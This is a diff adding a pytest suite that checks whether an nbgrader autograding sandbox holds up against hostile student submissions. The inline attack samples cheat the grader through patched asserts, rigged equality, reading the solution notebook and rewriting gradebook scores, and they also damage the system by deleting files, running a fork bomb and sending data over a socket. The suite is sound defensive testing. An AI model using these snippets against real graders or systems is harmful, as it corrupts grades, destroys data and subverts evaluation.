@@ -1,0 +1,292 @@
+"""Submissions that try to cheat or to break the grader, graded end to end next to honest ones.
+
+One autograde run of the Lecture 2 assignment, in a throwaway course, with real nbgrader
+and the real sandbox. Each hostile submission answers every exercise correctly except
+one, where it attacks instead: it must lose exactly that exercise, no other student's
+grade or file may change, the gradebook must stay intact, nothing it starts may outlive
+the run, and the run must end within a stated time.
+
+The sandbox is required: where bubblewrap cannot run, these tests fail with the reason
+(they never skip).
+"""
+import hashlib
+import os
+import socket
+import sqlite3
+import subprocess
+import threading
+import time
+
+import nbformat
+import pytest
+from traitlets.config import Config
+
+from grading.autograde import autograde, release
+from grading.report import collect
+from grading_helpers import ASSIGNMENT, fill, make_course, reference_bodies, submit
+
+REF = reference_bodies()
+POINTS = {"predict": 3, "pla": 4, "radius": 1, "margin": 1, "bound": 1, "pocket": 3,
+          "funtime1": 1, "funtime2": 1, "funtime3": 1, "funtime4": 1}
+TOTAL = sum(POINTS.values())
+TIMEOUT = 5          # seconds per cell
+TIME_BOUND = 300     # seconds for the whole run (19 submissions, three of them stopped by the timeout)
+
+# Each attack is the whole solution cell of one exercise. {course} is the course's real path,
+# {port} a port on which the test listens; the attacks get every chance to find their target.
+ATTACKS = {
+    # replaces numpy.testing's asserts and builtins, and returns an int whose == is always True
+    "monkeypatches_asserts": ("radius-solution", "radius", '''
+import builtins
+import numpy.testing as npt
+npt.assert_allclose = npt.assert_array_equal = npt.assert_equal = lambda *a, **k: None
+builtins.abs = lambda x: 0.0
+class Always(int):
+    def __eq__(self, other): return True
+    def __le__(self, other): return True
+    def __ge__(self, other): return True
+    def __lt__(self, other): return True
+    __hash__ = int.__hash__
+def radius(X):
+    return Always(0)
+'''),
+    # an ndarray whose comparisons and conversions lie
+    "rigged_eq": ("predict-solution", "predict", '''
+class Rigged(np.ndarray):
+    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool) if np.ndim(other) else True
+    def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool) if np.ndim(other) else False
+    def tolist(self): return [1.0, -1.0, 1.0]
+    def __float__(self): return 1.0
+    def __array__(self, dtype=None, copy=None): return np.array([1.0, -1.0, 1.0])
+def predict(w, X):
+    return np.zeros(len(X)).view(Rigged)
+'''),
+    # opens the instructor's notebook and executes the reference solution
+    "reads_the_solution": ("pla-solution", "pla", '''
+import json, glob, os
+def pla(X, y, max_updates=10_000):
+    candidates = glob.glob("{course}/source/*/*.ipynb") + glob.glob("../../source/*/*.ipynb") \\
+        + glob.glob("/**/source/ps1_perceptron/*.ipynb", recursive=True)
+    for path in candidates:
+        nb = json.load(open(path))
+        for cell in nb["cells"]:
+            if "def pla(" in "".join(cell["source"]):
+                scope = {{"np": np}}
+                exec("".join(cell["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), scope)
+                return scope["pla"](X, y, max_updates)
+    return np.zeros(np.shape(X)[1]), 0
+'''),
+    # reads the hidden tests from the gradebook and writes itself full marks
+    "tampers_with_gradebook": ("margin-solution", "margin", '''
+import sqlite3
+def margin(w_f, X, y):
+    try:
+        db = sqlite3.connect("{course}/gradebook.db")
+        db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
+        db.execute("UPDATE source_cell SET source = 'pass'")
+        db.commit()
+    except Exception:
+        pass
+    return 0.0
+'''),
+    # overwrites another student's submission and grades
+    "writes_other_students_files": ("bound-solution", "bound", '''
+import os
+for target in ["{course}/submitted/reference/ps1_perceptron/ps1_perceptron.ipynb",
+               "{course}/submitted/reference/ps1_perceptron/notes.txt",
+               "{course}/autograded/reference/ps1_perceptron/ps1_perceptron.ipynb"]:
+    try:
+        with open(target, "w") as fh:
+            fh.write("overwritten")
+    except OSError:
+        pass
+def novikoff_bound(R, rho):
+    return 0.0
+'''),
+    # deletes the course's files
+    "deletes_course_files": ("radius-solution", "radius", '''
+import os, shutil
+shutil.rmtree("{course}/source", ignore_errors=True)
+shutil.rmtree("{course}/submitted", ignore_errors=True)
+for name in ("nbgrader_config.py", "gradebook.db"):
+    try:
+        os.remove("{course}/" + name)
+    except OSError:
+        pass
+os.system("rm -rf {course}/release 2>/dev/null")
+def radius(X):
+    return -1.0
+'''),
+    # a fork bomb
+    "fork_bomb": ("pocket-solution", "pocket", '''
+import os
+def pocket(X, y, max_updates):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+'''),
+    # asks for 50 GB
+    "allocates_50_gb": ("radius-solution", "radius", '''
+def radius(X):
+    hog = np.ones(50 * 1024**3 // 8)
+    return float(hog.sum())
+'''),
+    # prints without end
+    "floods_stdout": ("predict-solution", "predict", '''
+def predict(w, X):
+    while True:
+        print("spam " * 2000)
+'''),
+    # talks to a server on this machine
+    "opens_network_connection": ("margin-solution", "margin", '''
+import socket
+def margin(w_f, X, y):
+    for host in ("127.0.0.1", "localhost"):
+        try:
+            socket.create_connection((host, {port}), timeout=1).sendall(b"stolen")
+        except OSError:
+            pass
+    return -1.0
+'''),
+}
+
+# honest work with a thread that never ends: full marks, and grading must not hang
+SLEEPING_THREAD = '''
+import threading, time
+threading.Thread(target=time.sleep, args=(10**6,)).start()
+''' + REF["funtime1-answer"]
+
+
+# a cell of the student's own dressed up as a test cell worth 100 points, whose code would
+# write a file into the course if the grader ran it outside the sandbox
+FAKE_TEST = '''
+open("{course}/judge-ran-student-code", "w").write("x")
+assert False, "this would be a failing test"
+'''
+
+
+def _expected(student):
+    if student in ATTACKS:
+        return TOTAL - POINTS[ATTACKS[student][1]]
+    return {"reference": TOTAL, "partial": TOTAL - POINTS["pla"] - POINTS["pocket"],
+            "sleeping_thread": TOTAL, "fake_test_cell": TOTAL}[student]
+
+
+def _digest(root):
+    """sha256 of every file below root, by relative path."""
+    out = {}
+    for path in sorted(root.rglob("*")):
+        if path.is_file():
+            out[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return out
+
+
+def _sandbox_processes():
+    run = subprocess.run(["ps", "-u", "nobody", "-o", "pid=,args="], capture_output=True, text=True)
+    return [line for line in run.stdout.splitlines() if line.strip()]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    from grading.sandbox import sandbox_mode
+    if sandbox_mode() == "off":
+        pytest.fail("GRADING_SANDBOX=off: the hostile submissions are only ever run inside the sandbox")
+    course = make_course(tmp_path_factory.mktemp("hostile"))
+    release(course, ASSIGNMENT)
+    released = nbformat.read(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    connections = []
+    stop = threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                conn, _ = listener.accept()
+                connections.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                pass
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+
+    submit(course, "reference", fill(released, REF))
+    (course / "submitted" / "reference" / ASSIGNMENT / "notes.txt").write_text("my notes\n")
+    partial = {k: v for k, v in REF.items() if k not in ("pla-solution", "pocket-solution")}
+    submit(course, "partial", fill(released, partial))
+    submit(course, "sleeping_thread", fill(released, dict(REF, **{"funtime1-answer": SLEEPING_THREAD})))
+    fake = fill(released, REF)
+    fake.cells.insert(4, nbformat.v4.new_code_cell(FAKE_TEST.format(course=course), metadata={"nbgrader": {
+        "grade": True, "solution": False, "locked": True, "points": 100, "grade_id": "predict-extra-credit",
+        "schema_version": 3}}))
+    submit(course, "fake_test_cell", fake)
+    for student, (cell, _, code) in ATTACKS.items():
+        attack = code.format(course=course, port=port).strip("\n")
+        submit(course, student, fill(released, dict(REF, **{cell: ("cell", attack)})))
+
+    protected = {name: _digest(course / name) for name in ("source", "release", "submitted")}
+    config = (course / "nbgrader_config.py").read_bytes()
+    before = set(_sandbox_processes())
+    start = time.monotonic()
+    status = autograde(course, ASSIGNMENT, overrides=Config({"Execute": {"timeout": TIMEOUT}}), echo=lambda *a: None)
+    elapsed = time.monotonic() - start
+    time.sleep(0.5)
+    stop.set()
+    thread.join(5)
+    listener.close()
+    _, rows = collect(course, ASSIGNMENT)
+    return {"course": course, "status": status, "rows": {r["student"]: r for r in rows}, "elapsed": elapsed,
+            "protected": protected, "config": config, "connections": connections,
+            "leftover": set(_sandbox_processes()) - before}
+
+
+@pytest.mark.parametrize("student", sorted(ATTACKS) + ["reference", "partial", "sleeping_thread", "fake_test_cell"])
+def test_each_submission_earns_exactly_what_it_solved(hostile, student):
+    row = hostile["rows"][student]
+    assert row["status"] == "graded", f"{student}: {row['reason']}"
+    assert row["score"] == _expected(student), f"{student}: {row['parts']}"
+    if student in ATTACKS:
+        attacked = ATTACKS[student][1]
+        assert row["parts"][attacked] == 0
+        assert all(row["parts"][ex] == pts for ex, pts in POINTS.items() if ex != attacked), row["parts"]
+
+
+def test_no_file_of_the_course_or_of_another_student_changed(hostile):
+    course = hostile["course"]
+    for name, digest in hostile["protected"].items():
+        assert _digest(course / name) == digest, f"{name}/ changed during grading"
+    assert (course / "nbgrader_config.py").read_bytes() == hostile["config"]
+    assert not (course / "judge-ran-student-code").exists(), "a student's cell ran outside the sandbox"
+    assert (course / "submitted" / "reference" / ASSIGNMENT / "notes.txt").read_text() == "my notes\n"
+
+
+def test_gradebook_is_intact(hostile):
+    db = sqlite3.connect(hostile["course"] / "gradebook.db")
+    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    sources = dict(db.execute("SELECT name, source FROM source_cell").fetchall())
+    source_nb = nbformat.read(hostile["course"] / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+    for cell in source_nb.cells:
+        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if gid in sources and cell.metadata["nbgrader"].get("grade"):
+            assert sources[gid] == cell.source, f"the hidden tests of {gid} changed in the gradebook"
+    top = db.execute("SELECT MAX(auto_score) FROM grade").fetchone()[0]
+    assert top <= max(POINTS.values())
+
+
+def test_no_network_connection_was_made(hostile):
+    assert hostile["connections"] == []
+
+
+def test_nothing_outlives_the_run(hostile):
+    assert not hostile["leftover"], hostile["leftover"]
+
+
+def test_the_run_ends_within_its_time_bound(hostile):
+    assert hostile["elapsed"] < TIME_BOUND, hostile["elapsed"]
